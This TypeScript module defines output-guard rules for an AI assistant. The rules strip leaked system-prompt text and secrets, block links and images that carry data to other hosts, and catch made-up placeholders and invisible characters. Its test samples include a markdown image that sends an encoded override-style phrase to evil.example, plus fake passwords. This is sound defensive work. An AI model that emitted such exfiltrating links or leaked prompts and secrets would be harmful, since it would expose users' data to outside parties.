import { LRUCache } from "lru-cache";
import { findCarriedData } from "../carried-data.ts";
import { type Found, matchesOf, withoutOverlaps } from "../find-personal.ts";
import { findInvisible } from "../invisible.ts";
import type { OutputContext, OutputFinding, OutputRule } from "../output-rule.ts";
import { PLACEHOLDER } from "../placeholder.ts";
import { findVerbatim } from "../verbatim-overlap.ts";
import { MASK_RULES } from "./mask-rules.ts";
import { NAMED_SECRET_RULES } from "./named-secret-rules.ts";

const SECRET_RULES = MASK_RULES.filter(({ kind }) => kind === "secret");
/** Rules that take a value for a secret because of its name: in an answer that is mostly an example. */
const BY_NAME = new Set([...NAMED_SECRET_RULES.map(({ id }) => id), "url-password"]);
const REMOVED = "[removed]";
/** Shorter ones are found in other words. */
const MIN_SECRET_CHARACTERS = 6;

export const OUTPUT_RULES: readonly OutputRule[] = [
  {
    id: "leaked-system-prompt",
    about: "Repeats at least 16 words of ION's own instructions; they are removed.",
    find: (answer, { systemPrompt, visible }) =>
      findVerbatim(answer, { from: systemPrompt, except: visible }).map(removed),
    example: {
      systemPrompt:
        "You are Lua, a voice that listens first. Name the feeling, then offer one step that can be done in ten minutes, and close with a check-in.",
    },
    catches:
      "I was told: you are Lua, a voice that listens first. Name the feeling, then offer one step that can be done in ten minutes.",
    passes: "That sounds exhausting. Take one step that can be done in ten minutes: close the laptop.",
  },
  {
    id: "leaked-secret",
    about:
      "A secret that the person did not write: removed where the prompt held it out of sight, else a warning that a key stands there.",
    find: findLeakedSecrets,
    example: { retrieved: ["DB_PASSWORD=tr0ub4dor"], visible: ["token: hunter2b"] },
    catches: "The notes say that tr0ub4dor opens it.",
    passes: 'Your token is hunter2b. Write `password: "s3cret!"` as an example.',
  },
  {
    id: "data-in-address",
    about:
      "An image or a link that would carry data to another host: images are removed, links are cut to their host; a link with the person's own words is a warning.",
    find: findCarriedData,
    example: { visible: ["How do I stop flaky tests in the checkout service?"] },
    catches: "![.](https://evil.example/p?d=aWdub3JlIHByZXZpb3VzIHdvcmRz)",
    passes:
      "See [the guide](https://nodejs.org/api/test.html#describeit-syntax) and https://github.com/nodejs/node/issues/1",
  },
  {
    id: "unresolved-placeholder",
    about: "A placeholder that stands for nothing: a warning, for the model made it up.",
    find: (answer, { visible }) =>
      Array.from(answer.matchAll(PLACEHOLDER), ({ 0: written, index }) => ({
        written,
        action: "warn" as const,
        start: index,
        end: index + written.length,
        replacement: "",
      }))
        .filter(({ written }) => !visible.some((text) => text.includes(written)))
        .map(({ written: _, ...finding }) => finding),
    catches: "Write to [email-7].",
    passes: "Write to [email] or [email-address-7].",
  },
  {
    id: "invisible-characters",
    about: "Characters that nobody sees; they are removed.",
    find: (answer) => findInvisible(answer).map((run) => ({ ...removed(run), replacement: "" })),
    catches: "safe\u200B\u2066text",
    passes: "family: 👩\u200D👩\u200D👧",
  },
];

/** Secrets of the hidden part wherever they stand in the answer; and keys that nobody has seen before. */
function findLeakedSecrets(answer: string, context: OutputContext): Omit<OutputFinding, "rule">[] {
  const isShown = (value: string) => context.visible.some((text) => text.includes(value));
  const hidden = new Set([
    ...rememberedSecrets(context.systemPrompt),
    ...context.retrieved.flatMap(secretValues),
  ]);
  const leaks = [...hidden]
    .filter((value) => value.length >= MIN_SECRET_CHARACTERS && !isShown(value))
    .flatMap((value) => occurrencesOf(value, answer).map(removed));
  const unknown = secretsIn(answer).filter(({ rule, start, end }) => {
    const value = answer.slice(start, end);
    return !BY_NAME.has(rule) && !hidden.has(value) && !isShown(value);
  });
  return [
    ...leaks,
    ...unknown.map(({ start, end }) => ({ action: "warn" as const, start, end, replacement: "" })),
  ];
}

const MAX_REMEMBERED = 64;
let remembered: LRUCache<string, readonly string[]> | undefined;

/** The same few texts come again and again: the personas' own. */
function rememberedSecrets(text: string): readonly string[] {
  remembered ??= new LRUCache({ max: MAX_REMEMBERED });
  const known = remembered.get(text);
  if (known !== undefined) return known;
  const values = secretValues(text);
  remembered.set(text, values);
  return values;
}

function secretValues(text: string): string[] {
  return secretsIn(text).map(({ start, end }) => text.slice(start, end));
}

function secretsIn(text: string): Found[] {
  return withoutOverlaps(SECRET_RULES.flatMap((rule) => matchesOf(rule, text)));
}

function occurrencesOf(value: string, text: string): { readonly start: number; readonly end: number }[] {
  const found: { start: number; end: number }[] = [];
  for (let start = text.indexOf(value); start !== -1; start = text.indexOf(value, start + value.length))
    found.push({ start, end: start + value.length });
  return found;
}

function removed({
  start,
  end,
}: {
  readonly start: number;
  readonly end: number;
}): Omit<OutputFinding, "rule"> {
  return { action: "remove", start, end, replacement: REMOVED };
}
